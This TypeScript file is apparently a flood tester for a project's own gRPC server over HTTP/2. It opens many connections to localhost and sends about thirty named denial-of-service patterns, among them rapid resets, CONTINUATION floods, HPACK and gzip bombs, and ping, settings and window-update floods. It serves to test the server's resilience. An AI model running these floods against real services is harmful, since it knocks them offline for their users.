/**
 * A program that attacks the gRPC port from many connections: `node flooding.ts '<kind>' <port> <connections> <ms>`.
 * A connection that is cut comes back at once. Its last line of output: what it did, as JSON.
 */
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { encodeRequest } from '../../proto/codec.ts'
import { Flag, FrameType, Setting } from '../../transports/grpc/http2/frames.ts'
import {
  block,
  data,
  FIELDS,
  field,
  frame,
  HELLO,
  headers,
  message,
  REQUEST,
  settings,
  u32,
} from '../transports/grpc/http2/frame-bytes.ts'

const { EndHeaders, Ack } = Flag
const NONE = Buffer.alloc(0)
const STREAMS = 1_000
const IDS_MAX = 2 ** 30 // then the connection is made anew
const REPEATS = 200 // frames of one write

const descriptor = (value: string) => ({ entries: [{ key: 'user', value }], limit: null, hitsAddend: null })
const SMALL = message(encodeRequest({ domain: 'flood', descriptors: [descriptor('x')], hitsAddend: 1 }))
const many = Array.from({ length: 600 }, (_, i) => descriptor(`${i}`))
const LARGE = message(encodeRequest({ domain: 'flood', descriptors: many, hitsAddend: 1 }))
const HALF = Buffer.concat([Buffer.of(0), u32(4 * 1024 * 1024), Buffer.alloc(16_379)])
const BOMB = message(gzipSync(Buffer.alloc(5 * 1024 * 1024)), 1)
const LYING_BOMB = Buffer.concat([BOMB.subarray(0, -4), Buffer.of(100, 0, 0, 0)]) // of its size
const DAMAGED = message(gzipSync(Buffer.alloc(4 * 1024 * 1024)), 1)
DAMAGED.writeUInt32LE(1, DAMAGED.length - 8) // its checksum
const GZIP = block({ ...FIELDS, 'grpc-encoding': 'gzip' })
const LONG = Buffer.concat([Buffer.of(0x40), field('a', 'x'.repeat(3_000)).subarray(1)])
const HPACK_BOMB = Buffer.concat([REQUEST, LONG, Buffer.alloc(12_000, 0xbe)])

const rst = (id: number) => frame(FrameType.RstStream, 0, id, u32(8))
const windowUpdate = (id: number, count: number) => frame(FrameType.WindowUpdate, 0, id, u32(count))
const open = (id: number) => headers(id, REQUEST)
const call = (id: number, bytes = SMALL) => Buffer.concat([open(id), data(id, bytes)])
const repeat = (bytes: Buffer) => Buffer.alloc(bytes.length * REPEATS, bytes)

interface Flood {
  isSilent?: boolean // not even HELLO
  first?: Buffer // after HELLO
  each?: (id: number) => Buffer // again and again, the ids of the client growing
  always?: Buffer // again and again, the same
  callsMax?: number // of `each`; then the connection is held
  readsNothing?: boolean
  hangsUp?: boolean // after `first`
}

export const FLOODS: Record<string, Flood> = {
  calls: { first: windowUpdate(0, 2 ** 30), each: (id) => call(id) },
  'answers without a window': { each: (id) => call(id) },
  'rapid resets': { each: (id) => Buffer.concat([call(id), rst(id)]) },
  'resets we are made to send': { each: (id) => Buffer.concat([open(id), windowUpdate(id, 0)]) },
  CONTINUATION: { first: headers(1, NONE, 0), always: repeat(frame(FrameType.Continuation, 0, 1)) },
  'large headers': {
    first: headers(1, NONE, 0),
    always: frame(FrameType.Continuation, 0, 1, Buffer.alloc(16_384)),
  },
  'HPACK bombs': { each: (id) => headers(id, HPACK_BOMB) },
  pings: { always: repeat(frame(FrameType.Ping, 0, 0, Buffer.alloc(8))) },
  settings: { always: repeat(settings([Setting.InitialWindowSize, 1])) },
  'empty DATA': { first: open(1), always: repeat(data(1, NONE, 0)) },
  'window updates': { always: repeat(windowUpdate(0, 1)) },
  priorities: { always: repeat(frame(FrameType.Priority, 0, 1, Buffer.alloc(5))) },
  'unknown frames': { always: repeat(frame(99, Ack, 7, Buffer.alloc(3))) },
  'half frames': { first: open(1).subarray(0, 30) },
  'half blocks': { first: headers(1, Buffer.alloc(16_384), 0) },
  'half messages': {
    each: (id) => Buffer.concat([open(id), data(id, HALF, 0), data(id, Buffer.alloc(16_384), 0)]),
    callsMax: STREAMS,
  },
  'open streams': { each: open, callsMax: STREAMS },
  'unlike heads': {
    each: (id) =>
      headers(id, block({ ...FIELDS, 'content-type': `application/grpc+${id}${'x'.repeat(9_000)}` })),
    callsMax: STREAMS,
  },
  'windows of zero': {
    first: settings([Setting.InitialWindowSize, 0]),
    each: (id) => call(id, LARGE),
    callsMax: STREAMS,
  },
  'nobody reads': { first: windowUpdate(0, 2 ** 30), each: (id) => call(id, LARGE), readsNothing: true },
  'gzip bombs': { each: (id) => Buffer.concat([headers(id, GZIP), data(id, BOMB)]), callsMax: STREAMS },
  'gzip bombs that lie': {
    each: (id) => Buffer.concat([headers(id, GZIP), data(id, LYING_BOMB)]),
    callsMax: STREAMS,
  },
  'damaged gzip': { each: (id) => Buffer.concat([headers(id, GZIP), data(id, DAMAGED)]), callsMax: STREAMS },
  'refused calls': {
    each: (id) => headers(id, block({ ...FIELDS, ':path': '/no/such' }), EndHeaders | Flag.EndStream),
  },
  connections: { hangsUp: true },
  'silent connections': { isSilent: true },
  'idle connections': {},
}

const done = { bytes: 0, connects: 0 }

function attack(flood: Flood, port: number, isOver: () => boolean): void {
  if (isOver()) return
  done.connects++
  const socket = connect(port, '127.0.0.1')
  let id = -1
  let calls = 0
  let isFirst = !flood.isSilent
  const write = () => {
    while (!isOver() && !socket.destroyed) {
      const bytes = next()
      if (bytes === null) return
      done.bytes += bytes.length
      if (!socket.write(bytes)) return
    }
  }
  const next = () => {
    if (isFirst) {
      isFirst = false
      return Buffer.concat([HELLO, flood.first ?? NONE])
    }
    if (flood.always !== undefined) return flood.always
    if (flood.each === undefined || calls >= (flood.callsMax ?? IDS_MAX)) return null
    const parts: Buffer[] = []
    for (let bytes = 0; bytes < 32_768 && calls < (flood.callsMax ?? IDS_MAX); calls++) {
      id += 2
      parts.push(flood.each(id))
      bytes += parts.at(-1)!.length
    }
    return Buffer.concat(parts)
  }
  socket.on('connect', () => {
    write()
    if (flood.hangsUp) socket.end()
  })
  socket.on('drain', write)
  socket.on('error', () => {})
  socket.on('close', () => again(flood, port, isOver))
  if (flood.readsNothing) socket.pause()
  else socket.resume()
  sockets.add(socket)
  socket.once('close', () => sockets.delete(socket))
}

const sockets = new Set<Socket>()

function again(flood: Flood, port: number, isOver: () => boolean): void {
  setImmediate(() => attack(flood, port, isOver))
}

if (process.argv[1] === import.meta.filename) {
  const [, , kind, port, connections, ms] = process.argv
  const endMs = Date.now() + Number(ms)
  const isOver = () => Date.now() > endMs
  for (let i = 0; i < Number(connections); i++) attack(FLOODS[kind], Number(port), isOver)
  setTimeout(() => {
    console.log(JSON.stringify(done))
    process.exit()
  }, Number(ms) + 50)
}
